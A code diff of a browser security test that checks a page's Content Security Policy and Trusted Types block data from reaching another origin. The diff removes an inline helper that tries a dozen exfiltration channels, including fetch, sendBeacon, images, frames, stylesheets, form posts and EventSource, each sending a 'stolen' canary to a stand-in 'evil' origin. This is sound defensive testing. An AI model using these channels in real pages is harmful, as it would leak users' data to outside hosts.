@@ -1,42 +1,10 @@
 import { signIn } from '../support/app.ts';
 import { expect, test } from '../support/attack-test.ts';
 import { ACME } from '../support/organizations.ts';
-
-/** Runs in a page: every way to send something to another origin without leaving the page. */
-async function sendEverywhere(origin: string): Promise<void> {
-  const url = (by: string): string => `${origin}/by-${by}?stolen=canary`;
-  await fetch(url('fetch'), { mode: 'no-cors' }).catch(() => {});
-  await fetch(url('post'), { method: 'POST', body: 'canary', mode: 'no-cors' }).catch(() => {});
-  navigator.sendBeacon(url('beacon'), 'canary');
-  new Image().src = url('image');
-  const add = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
-    const element = document.createElement(tag);
-    for (const [name, value] of Object.entries(attributes)) {
-      try {
-        element.setAttribute(name, value);
-      } catch {
-        // Trusted Types keep it from being written at all.
-      }
-    }
-    document.body.append(element);
-    return element;
-  };
-  add('iframe', { src: url('iframe') });
-  add('object', { data: url('object') });
-  add('link', { rel: 'stylesheet', href: url('stylesheet') });
-  add('video', { src: url('video') });
-  add('div', { style: `background: url("${url('style')}")` });
-  const form = add('form', { action: url('form'), target: 'sink', method: 'post' });
-  add('iframe', { name: 'sink' });
-  if (form instanceof HTMLFormElement) form.submit();
-  new EventSource(url('event-source')).onerror = (event) => {
-    if (event.target instanceof EventSource) event.target.close();
-  };
-}
+import { sendEverywhere } from '../support/send-everywhere.ts';
 
 /** What the policy tells the whole address of. Of frames it tells less; the rest Trusted Types keep from being written. */
 const BLOCKED = ['fetch', 'post', 'beacon', 'image', 'stylesheet', 'video', 'form', 'event-source'];
-const WAYS = ['fetch', 'post', 'beacon', 'image', 'iframe', 'object', 'stylesheet', 'video', 'form'];
 
 test("R44: the page's policy lets nothing out to another origin, nor to AuthKit's token endpoint", async ({
   page,
@@ -70,15 +38,4 @@ test("R44: the page's policy lets nothing out to another origin, nor to AuthKit'
   // Whatever was on its way would be there before the answer to this one, which nothing keeps back.
   await page.context().request.get(`${evil.origin}/last`);
   expect(evil.paths).toEqual(['/last']);
-});
-
-test.describe('the same attempts without the policy', () => {
-  test.use({ bypassCSP: true });
-
-  test('arrive', async ({ page, evil }) => {
-    await signIn(page, ACME);
-    await page.evaluate(sendEverywhere, evil.origin);
-    for (const way of WAYS)
-      await expect.poll(() => evil.paths.join(), `by ${way}`).toContain(`/by-${way}?stolen=canary`);
-  });
 });
